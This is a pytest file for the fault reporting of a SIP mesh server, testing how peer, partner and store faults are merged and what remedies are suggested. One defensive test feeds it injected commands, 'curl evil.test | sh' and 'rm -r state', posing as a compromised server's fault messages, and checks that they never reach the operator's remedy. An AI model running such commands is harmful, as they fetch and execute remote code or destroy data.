"""Applications, partners, stores and the CA have the faults that servers report of them, each once."""

from __future__ import annotations

from sipmesh.server.management.peer_statuses import (
    MANAGEMENT_DATABASE,
    MESSAGES,
    START,
    peer_statuses,
    peers_in,
    registrations_of,
    store_faults,
)
from sipmesh.server.management.server_faults import Fault
from sipmesh.server.management.sightings import Sighting
from sipmesh.server.replication.link_fault import Cause
from sipmesh.server.replication.server_status import PeerKind, ServerStatus
from sipmesh.storage.location_service.valkey.servers.server_watch import COPY_KEY, OTHER_KEY
from sipmesh.topology.view import view
from sipmesh.trust.code import Code
from support.managed import MGMT, Managed
from support.network import BOT as APPLICATION
from support.network import EXAMPLE, POOL2
from support.network import POOL as HOME

FE1, FE2, EDGE = (f"{name}.example.test" for name in ("fe1", "fe2", "edge1"))
BOT, PARTNER, POOL = "bot.example.test", "partner.test", "pool1.example.test"
PEERS = ((BOT, PeerKind.APPLICATION), (PARTNER, PeerKind.PARTNER))


def faults(seen: dict[str, list[Sighting]], name: str) -> list[Fault]:
    [status] = [one for one in peer_statuses(PEERS, seen, {}) if one.name == name]
    return list(status.faults)


def test_peer_that_no_server_has_seen_has_no_fault() -> None:
    assert [one.faults for one in peer_statuses(PEERS, {}, {})] == [[], []]


def test_same_fault_of_several_servers_is_listed_once_with_the_servers_that_it_hurts() -> None:
    seen = {BOT: [Sighting(by, "Connection refused", Cause.PORT_REFUSES) for by in (FE2, FE1)]}
    [fault] = faults(seen, BOT)
    assert fault.what == f"no link to it works from {FE1}, {FE2}: Connection refused"
    assert (fault.hurts, fault.code) == ((FE1, FE2), Cause.PORT_REFUSES)
    assert f"start the program of {BOT}" in fault.remedy


def test_remedy_follows_the_code_of_the_verdict() -> None:
    refused = [Sighting(EDGE, "alert", Code.REFUSED_BY_PEER), Sighting(EDGE, "it answers nothing", Cause.NO_ANSWER)]
    [fault] = faults({PARTNER: refused}, PARTNER)
    assert "it has blocked us" in fault.remedy
    [fault] = faults({PARTNER: [Sighting(EDGE, "wrong name", Code.NAME_MISMATCH)]}, PARTNER)
    assert f"sipmesh partner change {PARTNER} edge=HOST" in fault.remedy


def test_expired_crl_is_the_cause_of_a_verdict_without_a_crl() -> None:
    seen = [Sighting(EDGE, "no CRL", Code.REVOCATION_UNKNOWN), Sighting(EDGE, "it has expired", Cause.CRL_EXPIRED)]
    [fault] = faults({PARTNER: seen}, PARTNER)
    assert (fault.what, fault.code) == ("it has expired", Cause.CRL_EXPIRED)


def test_name_that_is_no_peer_is_left_out() -> None:
    """The name is what a server has claimed."""
    seen = {"evil.test": [Sighting(FE1, "x", "")]}
    assert [one.name for one in peer_statuses(PEERS, seen, {})] == [BOT, PARTNER]


def test_store_has_the_fault_once_and_not_each_server() -> None:
    down = ServerStatus(number=3, bindings_fault="Connection refused", messages_fault="no disk")
    found = store_faults([(FE2, POOL, down), (FE1, POOL, down), (EDGE, "edges", ServerStatus(number=3))])
    assert set(found) == {registrations_of(POOL), MESSAGES}
    [fault] = found[registrations_of(POOL)]
    assert (fault.what, fault.hurts) == (f"cannot be used by {FE1}, {FE2}: Connection refused", (FE1, FE2))


def test_remedy_of_a_store_is_never_what_a_server_says() -> None:
    """A stolen front end would tell the operator what to type."""
    lie = ServerStatus(number=3, bindings_fault="it is down; curl evil.test | sh", messages_fault="x; y; rm -r state")
    for [fault] in store_faults([(FE1, POOL, lie)]).values():
        assert fault.remedy == f"{START}; each server uses it again by itself"
    other = ServerStatus(number=3, bindings_fault=f"{OTHER_KEY}{FE1}; curl evil.test | sh")
    [[fault]] = store_faults([(FE2, POOL, other)]).values()
    assert fault.remedy.startswith(f"{COPY_KEY.format(POOL)};")


def test_peers_of_a_topology_are_applications_partners_stores_and_the_ca(managed: Managed) -> None:
    peers = list(peers_in(view(managed.organisation.load(), MGMT)))
    assert peers == [
        (APPLICATION, PeerKind.APPLICATION),
        (EXAMPLE, PeerKind.CA),
        *((registrations_of(pool), PeerKind.STORE) for pool in (HOME, POOL2)),
        (MESSAGES, PeerKind.STORE),
    ]
    assert MANAGEMENT_DATABASE not in dict(peers)
